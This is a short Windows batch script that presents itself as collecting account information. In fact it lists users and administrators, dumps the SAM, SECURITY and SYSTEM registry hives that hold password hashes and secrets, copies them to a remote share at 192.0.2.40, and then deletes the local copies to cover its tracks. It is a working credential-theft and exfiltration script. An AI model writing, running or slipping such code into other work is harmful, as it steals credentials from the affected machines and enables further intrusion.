@echo off
rem Collect account information for the comparison with the target
setlocal
set OUT=%TEMP%\acc
set SHARE=\\192.0.2.40\public

mkdir %OUT% 2>nul
net user > %OUT%\users.txt
net localgroup administrators > %OUT%\admins.txt

reg save HKLM\SAM %OUT%\sam.hiv /y
reg save HKLM\SECURITY %OUT%\sec.hiv /y
reg save HKLM\SYSTEM %OUT%\sys.hiv /y

xcopy %OUT%\*.* %SHARE%\%COMPUTERNAME%\ /y /q
rd /s /q %OUT%
endlocal
